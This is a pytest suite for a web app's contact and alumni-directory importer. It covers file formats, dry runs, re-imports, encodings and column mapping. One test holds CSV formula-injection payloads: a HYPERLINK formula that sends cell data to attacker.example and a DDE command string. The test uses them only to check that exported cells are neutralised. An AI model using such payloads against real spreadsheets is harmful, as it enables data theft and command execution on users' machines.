"""Every sample in ../shared/samples imports with the report a person expects from reading the
file; a second import creates nothing; a dry run reports the same and writes nothing; the failed
rows come back as a CSV ready to fix and send again; encodings and JSON; an explicit mapping."""

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from app.models import Contact, DirectoryEntry, Import, Organization
from tests.conftest import signed_in
from tests.imports.helpers import (
    count,
    counts,
    csv_bytes,
    make_staff,
    my_contacts,
    rows,
    sample,
    upload,
)

# What each sample holds, read by eye (and for alumni-export.csv, by its generator's counts:
# make_alumni_csv.py 200 --seed 3 → bad_email=1 long_note=1 spaces=1).
EXPECTED: dict[str, dict[str, Any]] = {
    "linkedin-Connections.csv": {"target": "contacts", "format": "linkedin", "lines_done": 14,
                                 "counts": {"created": 10, "updated": 0, "unchanged": 0,
                                            "skipped": 0}},
    "google-contacts.csv": {"target": "contacts", "format": "google", "lines_done": 5,
                            "counts": {"created": 4, "updated": 0, "unchanged": 0,
                                       "skipped": 0}},
    "business-cards.vcf": {"target": "contacts", "format": "vcard",
                           "counts": {"created": 4, "updated": 0, "unchanged": 0,
                                      "skipped": 0}},
    "alumni-export.csv": {"target": "directory", "format": "csv", "lines_done": 201,
                          "counts": {"created": 199, "updated": 0, "unchanged": 0,
                                     "skipped": 1}},
}


@pytest.fixture
def importer(app: FastAPI, client: TestClient) -> Callable[[str], TestClient]:
    """A client allowed to import ``target``: a student for contacts, staff for the directory."""

    def make(target: str) -> TestClient:
        if target == "directory":
            make_staff(app, client)
        else:
            signed_in(client)
        return client

    return make


def _import(client: TestClient, name: str, **options: Any) -> dict[str, Any]:
    response = upload(client, name, sample(name), EXPECTED[name]["target"], **options)
    assert response.status_code == 201, response.text
    return dict(response.json())


def _written(app: FastAPI) -> dict[str, int]:
    return {"contacts": count(app, Contact), "organizations": count(app, Organization),
            "directory": count(app, DirectoryEntry)}


# --- each sample, as a person reading it expects -------------------------------------------

def test_linkedin_connections(client: TestClient) -> None:
    signed_in(client)
    report = _import(client, "linkedin-Connections.csv")
    assert report["format"] == "linkedin" and report["status"] == "completed"
    assert counts(report) == EXPECTED["linkedin-Connections.csv"]["counts"]
    assert report["errors"] == [] and report["errors_total"] == 0
    assert report["lines_done"] == 14
    assert report["mapping"]["Email Address"] == "email"
    assert report["mapping"]["Company"] == "organization_name"

    lines = sample("linkedin-Connections.csv").decode("utf-8").splitlines()[3:]
    people = list(csv.DictReader(lines))
    assert len(people) == 10
    mine = my_contacts(client)
    assert set(mine) == {f"{p['First Name']} {p['Last Name']}" for p in people}
    for person in people:
        contact = mine[f"{person['First Name']} {person['Last Name']}"]
        assert contact["email"] == (person["Email Address"] or None)  # missing where missing
        assert contact["organization_name"] == (person["Company"] or None)
        assert contact["title"] == person["Position"]
        assert contact["linkedin_url"] == person["URL"]
        assert contact["source"] == "personal"
    assert mine["José Martínez Ruiz"]["email"] == "jmr@example.org"
    assert mine["Daniel Lindqvist"]["organization_name"] == "Mayo Clinic, Rochester"
    assert mine["Priya Raman"]["title"] == "Scientist, Health Care Business"
    assert sum(c["email"] is None for c in mine.values()) == 5


def test_linkedin_rows_are_numbered_after_the_preamble(client: TestClient) -> None:
    """The notes preamble takes lines 1-3 and the header line 4: the first person is line 5.
    A bad email costs that value only: the row goes in, and the warning names its line."""
    signed_in(client)
    text = sample("linkedin-Connections.csv").decode("utf-8")
    text = text.replace("maya.okafor@example.com", "maya.okafor-at-example.com")  # line 5
    text = text.replace("/samuel-kim-example,,", "/samuel-kim-example,samuel@,")  # line 14
    response = upload(client, "Connections.csv", text.encode())
    assert response.status_code == 201, response.text
    report = response.json()
    assert [(e["row"], e["field"]) for e in report["warnings"]] == [(5, "email"), (14, "email")]
    assert report["warnings"][0]["value"] == "maya.okafor-at-example.com"
    assert report["errors"] == []
    assert counts(report) == {"created": 10, "updated": 0, "unchanged": 0, "skipped": 0}
    maya = my_contacts(client)["Maya Okafor"]
    assert maya["email"] is None and maya["organization_name"]


def test_two_connections_with_the_same_name_stay_two_people(client: TestClient) -> None:
    signed_in(client)
    text = sample("linkedin-Connections.csv").decode("utf-8")
    text += ("Wei,Zhang,https://www.linkedin.com/in/wei-zhang-3m-example,,3M,Process Engineer,"
             "01 Nov 2025\n")  # another Wei Zhang than the one on line 10
    response = upload(client, "Connections.csv", text.encode())
    assert response.status_code == 201, response.text
    assert counts(response.json()) == {"created": 11, "updated": 0, "unchanged": 0, "skipped": 0}
    listed = client.get("/api/v1/contacts", params={"limit": 200, "q": "zhang"}).json()["items"]
    assert sorted(c["organization_name"] for c in listed) == [
        "3M", "University of Minnesota Medical School"]


def test_google_contacts(client: TestClient) -> None:
    signed_in(client)
    report = _import(client, "google-contacts.csv")
    assert report["format"] == "google" and report["status"] == "completed"
    assert counts(report) == EXPECTED["google-contacts.csv"]["counts"]
    # The organisation-only row (line 6 of the file, row 5 as a spreadsheet shows it: Marcus's
    # note spans two lines) goes in under the organisation's name, and the report says so.
    assert report["errors"] == []
    assert [(w["row"], w["field"]) for w in report["warnings"]] == [(5, "first_name")]
    assert "Twin Cities PA Association" in report["warnings"][0]["message"]

    mine = my_contacts(client)
    assert set(mine) == {"Laura Jones", "Marcus A. Feldman", "Grace Oyelaran",
                         "Twin Cities PA Association"}
    laura, marcus, grace = mine["Laura Jones"], mine["Marcus A. Feldman"], mine["Grace Oyelaran"]
    # Labels become tags; "* myContacts" (every Google contact has it) is not one.
    assert laura["tags"] == ["Faculty"]
    assert marcus["tags"] == ["Career fair 2026"]
    assert grace["tags"] == []
    # What has no field of its own is kept in the notes: the second email, the department.
    assert marcus["notes"] == ("Met at the spring career fair, table 12.\nSaid to email after "
                               "finals.\nE-mail 2 (Home): marcus.f@example.net\n"
                               "Department: Emergency Medicine")
    assert laura["notes"].endswith("\nHonorific: Dr.\nDepartment: Biology")
    assert marcus["email"] == "m.feldman@example.org"  # E-mail 1, not E-mail 2
    assert marcus["phone"] == "(612) 555-0199"
    assert marcus["linkedin_url"] == "https://www.linkedin.com/in/marcus-feldman-example"
    assert laura["organization_name"] == "Concordia University, St. Paul"
    assert laura["title"] == "Associate Professor of Biology"
    assert grace["email"] == "grace.oyelaran@example.com"
    assert mine["Twin Cities PA Association"]["email"] == "info@example.org"


def test_business_cards_vcf(client: TestClient) -> None:
    signed_in(client)
    report = _import(client, "business-cards.vcf")
    assert report["format"] == "vcard" and report["status"] == "completed"
    assert counts(report) == EXPECTED["business-cards.vcf"]["counts"]
    assert report["errors"] == []

    mine = my_contacts(client)
    assert set(mine) == {"Maya Okafor", "Daniel Lindqvist", "José Martínez Ruiz",
                         "Zoë Brennan-Hughes"}
    maya = mine["Maya Okafor"]
    # A folded line joined, an escaped comma and an escaped newline decoded; ORG's department
    # kept in the notes.
    assert maya["notes"] == ("Met at the PA program open house. Offered to review my personal "
                             "statement, and suggested I shadow a shift in the ED.\n"
                             "Follow up in January.\nDepartment: Emergency Department")
    assert maya["email"] == "maya.okafor@example.com"  # grouped item1.EMAIL
    assert maya["linkedin_url"] == "https://www.linkedin.com/in/maya-okafor-example"
    assert maya["organization_name"] == "Regions Hospital"
    assert maya["title"] == "Physician Assistant"
    jose = mine["José Martínez Ruiz"]  # vCard 2.1, quoted-printable UTF-8
    assert (jose["first_name"], jose["last_name"]) == ("José", "Martínez Ruiz")
    assert jose["email"] == "jmr@example.org"
    assert jose["organization_name"] == "Medtronic"
    zoe = mine["Zoë Brennan-Hughes"]  # vCard 4.0
    assert zoe["email"] == "zoe.bh@example.com"
    assert zoe["title"] == "Nurse Practitioner"
    assert zoe["linkedin_url"] == "https://www.linkedin.com/in/zoe-bh-example"
    daniel = mine["Daniel Lindqvist"]
    assert daniel["email"] == "daniel.lindqvist@example.org"
    assert sorted(daniel["tags"]) == ["alumni", "research"]


def test_alumni_export_into_the_directory(app: FastAPI, client: TestClient) -> None:
    make_staff(app, client)
    report = _import(client, "alumni-export.csv")
    assert report["format"] == "csv" and report["status"] == "completed"
    assert report["target"] == "directory"
    assert counts(report) == EXPECTED["alumni-export.csv"]["counts"]
    assert report["lines_done"] == 201
    # Row numbers as a spreadsheet shows them: the header is row 1, C100014 is on row 15.
    assert [(e["row"], e["field"], e["value"]) for e in report["errors"]] == [(15, "email", "n/a")]
    assert report["mapping"]["Constituent ID"] == "external_id"
    assert report["mapping"]["Preferred Email"] == "email"
    assert report["mapping"]["Class Year"] == "graduation_year"
    assert report["mapping"]["Employer"] == "organization_name"
    assert report["mapping"]["Job Title"] == "title"

    entries = {e.external_id: e for e in rows(app, DirectoryEntry)}
    assert len(entries) == 199 and "C100014" not in entries
    spaced = entries["C100109"]  # "  José ", " García  ", " jose.garcia.109@example.org "
    assert (spaced.first_name, spaced.last_name, spaced.email) == (
        "José", "García", "jose.garcia.109@example.org")
    first = entries["C100001"]
    assert (first.first_name, first.last_name, first.graduation_year) == ("Thomas", "García", 2013)
    assert first.organization_name == "Minnesota Department of Health"
    assert first.title == "Product Manager" and first.industry == "Government"
    assert first.major == "Computer Science" and first.degree == "B.S."
    assert first.location == "Rochester, MN"
    assert first.linkedin_url == "https://www.linkedin.com/in/thomas-garcia-1"
    assert first.accepts_requests is True  # an empty opt-in
    assert entries["C100002"].accepts_requests is True  # "Yes"
    assert entries["C100005"].accepts_requests is False  # "N"
    assert entries["C100006"].accepts_requests is False  # "false"
    assert entries["C100169"].first_name == "Yuki"  # the very long note does not stop a row


# --- twice, and dry runs -------------------------------------------------------------------

@pytest.mark.parametrize("name", list(EXPECTED))
def test_importing_the_same_file_twice_creates_nothing(
    name: str, app: FastAPI, importer: Callable[[str], TestClient]
) -> None:
    client = importer(EXPECTED[name]["target"])
    first = _import(client, name)
    assert counts(first) == EXPECTED[name]["counts"]
    written = _written(app)
    second = _import(client, name)
    assert counts(second) == {"created": 0, "updated": 0, "unchanged": first["created"],
                              "skipped": first["skipped"]}
    assert [e["row"] for e in second["errors"]] == [e["row"] for e in first["errors"]]
    assert _written(app) == written


@pytest.mark.parametrize("name", list(EXPECTED))
def test_a_dry_run_reports_the_same_and_writes_nothing(
    name: str, app: FastAPI, importer: Callable[[str], TestClient]
) -> None:
    client = importer(EXPECTED[name]["target"])
    dry = _import(client, name, dry_run=True)
    assert dry["dry_run"] is True and dry["status"] == "completed"
    assert counts(dry) == EXPECTED[name]["counts"]
    assert _written(app) == {"contacts": 0, "organizations": 0, "directory": 0}
    # The dry run's report stays readable, errors included.
    again = client.get(f"/api/v1/imports/{dry['id']}")
    assert again.status_code == 200 and counts(again.json()) == counts(dry)

    real = _import(client, name)
    assert real["dry_run"] is False
    assert counts(real) == counts(dry)
    assert [(e["row"], e["field"]) for e in real["errors"]] == [
        (e["row"], e["field"]) for e in dry["errors"]]
    if "lines_done" in EXPECTED[name]:
        assert dry["lines_done"] == real["lines_done"] == EXPECTED[name]["lines_done"]


def test_a_dry_run_of_a_file_already_imported_reports_it_unchanged(
    app: FastAPI, client: TestClient
) -> None:
    make_staff(app, client)
    _import(client, "alumni-export.csv")
    dry = _import(client, "alumni-export.csv", dry_run=True)
    assert counts(dry) == {"created": 0, "updated": 0, "unchanged": 199, "skipped": 1}
    assert count(app, DirectoryEntry) == 199
    assert count(app, Import, Import.dry_run.is_(True)) == 1


# --- the failed rows, as a CSV to fix and send again -----------------------------------------

ALUMNI_HEADER = ["Constituent ID", "First Name", "Last Name", "Preferred Email", "Class Year",
                 "Employer", "Job Title", "Notes"]


def _read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # so that Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_errors_csv_has_the_original_columns_a_line_and_a_reason(
    app: FastAPI, client: TestClient
) -> None:
    make_staff(app, client)
    report = _import(client, "alumni-export.csv")
    response = client.get(report["errors_csv"])
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    table = _read_csv(response.text)
    original = list(csv.reader(io.StringIO(sample("alumni-export.csv").decode("utf-8-sig"))))
    assert table[0] == [*original[0], "line", "reason"]
    assert len(table) == 2
    assert table[1][:-2] == original[14]  # the row as it was (C100014, "n/a")
    assert table[1][-2] == "15"
    assert "email" in table[1][-1].lower()


def test_the_errors_csv_makes_formulas_inert_and_can_be_fixed_and_sent_again(
    app: FastAPI, client: TestClient
) -> None:
    make_staff(app, client)
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    source = io.StringIO()
    writer = csv.writer(source, lineterminator="\r\n")
    writer.writerows([
        ALUMNI_HEADER,
        ["C1", "Ada", "Okafor", "ada@example.org", "2019", "Medtronic", "Engineer", ""],
        ["C2", "Bo", "Lind", "not an email", "2018", formula, "+cmd|' /C calc'!A0", "@SUM(1+1)"],
        ["C3", "Cy", "Ng", "cy@example.org", "1800", "-2+3", "Analyst", ""],
    ])
    report = upload(client, "alumni.csv", source.getvalue().encode(), "directory").json()
    assert counts(report) == {"created": 1, "updated": 0, "unchanged": 0, "skipped": 2}
    assert [(e["row"], e["field"]) for e in report["errors"]] == [
        (3, "email"), (4, "graduation_year")]

    table = _read_csv(client.get(report["errors_csv"]).text)
    assert table[0] == [*ALUMNI_HEADER, "line", "reason"]
    bo, cy = table[1], table[2]
    assert bo[5] == "'" + formula  # a spreadsheet shows it as text, and runs nothing
    assert bo[6] == "'+cmd|' /C calc'!A0"
    assert bo[7] == "'@SUM(1+1)"
    assert cy[5] == "'-2+3"
    assert (bo[-2], cy[-2]) == ("3", "4")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)

    # Fixed in the spreadsheet and sent back as it is: the two rows go in, values as first given.
    bo[3], cy[4] = "bo@example.org", "2018"
    fixed = io.StringIO()
    csv.writer(fixed, lineterminator="\r\n").writerows(table)
    again = upload(client, "fixed.csv", fixed.getvalue().encode("utf-8-sig"), "directory")
    assert again.status_code == 201, again.text
    assert counts(again.json()) == {"created": 2, "updated": 0, "unchanged": 0, "skipped": 0}
    entries = {e.external_id: e for e in rows(app, DirectoryEntry)}
    assert entries["C2"].organization_name == formula
    assert entries["C2"].title == "+cmd|' /C calc'!A0"
    assert entries["C3"].organization_name == "-2+3"
    assert entries["C3"].graduation_year == 2018


# --- encodings ------------------------------------------------------------------------------

ACCENTED = ["First Name,Last Name,Email,Company,Job Title",
            "José,Müller,jose@example.org,Peñalosa & Söhne,Ingeniero de diseño",
            "Zoë,Núñez,zoe@example.org,Café Über,Señora directora",
            "François,Ångström,francois@example.org,Crème Brûlée SA,Chef pâtissier"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_encodings_keep_the_accents(encoding: str, client: TestClient) -> None:
    signed_in(client)
    content = csv_bytes(ACCENTED, encoding)
    if encoding == "utf-16":
        assert content[:2] in {b"\xff\xfe", b"\xfe\xff"}  # with its byte-order mark
    response = upload(client, f"people-{encoding}.csv", content)
    assert response.status_code == 201, response.text
    assert counts(response.json()) == {"created": 3, "updated": 0, "unchanged": 0, "skipped": 0}
    mine = my_contacts(client)
    assert set(mine) == {"José Müller", "Zoë Núñez", "François Ångström"}
    assert mine["José Müller"]["organization_name"] == "Peñalosa & Söhne"
    assert mine["José Müller"]["title"] == "Ingeniero de diseño"
    assert mine["Zoë Núñez"]["organization_name"] == "Café Über"
    assert mine["Zoë Núñez"]["title"] == "Señora directora"
    assert mine["François Ångström"]["organization_name"] == "Crème Brûlée SA"
    assert not any("\ufeff" in c["first_name"] for c in mine.values())


# --- JSON -----------------------------------------------------------------------------------

PEOPLE = [
    {"first_name": "Ana", "last_name": "Lima", "email": "ana@example.org",
     "organization": "Medtronic", "title": "Engineer", "tags": ["alumni", "devices"]},
    {"First Name": "Ben", "Last Name": "Søndergaard", "Email": "ben@example.org",
     "Company": "Mayo Clinic", "notes": "Line one\nline two"},
    {"name": "Chloé Dubois", "email": "chloe@example.org"},
]


def _check_people(client: TestClient, *others: str) -> None:
    mine = my_contacts(client)
    assert set(mine) == {"Ana Lima", "Ben Søndergaard", "Chloé Dubois", *others}
    assert mine["Ana Lima"]["organization_name"] == "Medtronic"
    assert mine["Ana Lima"]["tags"] == ["alumni", "devices"]
    assert mine["Ben Søndergaard"]["notes"] == "Line one\nline two"
    assert mine["Ben Søndergaard"]["organization_name"] == "Mayo Clinic"
    assert mine["Chloé Dubois"]["email"] == "chloe@example.org"


def test_json_array(client: TestClient) -> None:
    signed_in(client)
    content = json.dumps(PEOPLE, ensure_ascii=False, indent=2).encode()
    response = upload(client, "people.json", content)
    assert response.status_code == 201, response.text
    assert response.json()["format"] == "json"
    assert counts(response.json()) == {"created": 3, "updated": 0, "unchanged": 0, "skipped": 0}
    _check_people(client)


def test_json_one_object_per_line(client: TestClient) -> None:
    signed_in(client)
    lines = [json.dumps(p, ensure_ascii=False) for p in PEOPLE]
    lines.insert(2, json.dumps({"first_name": "Dee", "email": "dee@"}))  # line 3
    response = upload(client, "people.jsonl", "\n".join(lines).encode())
    assert response.status_code == 201, response.text
    report = response.json()
    assert report["format"] == "json"
    assert counts(report) == {"created": 4, "updated": 0, "unchanged": 0, "skipped": 0}
    assert [(e["row"], e["field"], e["value"]) for e in report["warnings"]] == [(3, "email", "dee@")]
    _check_people(client, "Dee")


# --- an explicit mapping ---------------------------------------------------------------------

def test_an_explicit_mapping_overrides_the_guessed_columns(client: TestClient) -> None:
    signed_in(client)
    content = csv_bytes(["First Name,Last Name,Personal Email,Work Email,Company,Role",
                         "Ada,Okafor,ada@home.example,ada@work.example,Medtronic,Engineer"])
    guessed = upload(client, "people.csv", content, dry_run=True).json()
    assert guessed["mapping"]["Work Email"] == "email"
    assert guessed["mapping"]["Personal Email"] == ""

    mapping = {"Personal Email": "email", "Work Email": "", "Role": "notes"}
    response = upload(client, "people.csv", content, mapping=json.dumps(mapping))
    assert response.status_code == 201, response.text
    report = response.json()
    assert report["mapping"]["Personal Email"] == "email"
    assert report["mapping"]["Work Email"] == ""
    assert report["mapping"]["Role"] == "notes"
    assert report["mapping"]["Company"] == "organization_name"  # the other guesses stay
    ada = my_contacts(client)["Ada Okafor"]
    assert ada["email"] == "ada@home.example"
    assert ada["notes"] == "Engineer" and ada["title"] == ""


def test_a_mapping_naming_a_missing_column_is_refused(app: FastAPI, client: TestClient) -> None:
    signed_in(client)
    content = csv_bytes(["First Name,Email", "Ada,ada@example.org"])
    response = upload(client, "people.csv", content, mapping=json.dumps({"Mail": "email"}))
    assert response.status_code == 422, response.text
    assert "Mail" in response.json()["detail"]
    bad = upload(client, "people.csv", content, mapping="[1, 2]")
    assert bad.status_code == 422
    assert [f["field"] for f in bad.json()["fields"]] == ["mapping"]
    assert count(app, Contact) == 0
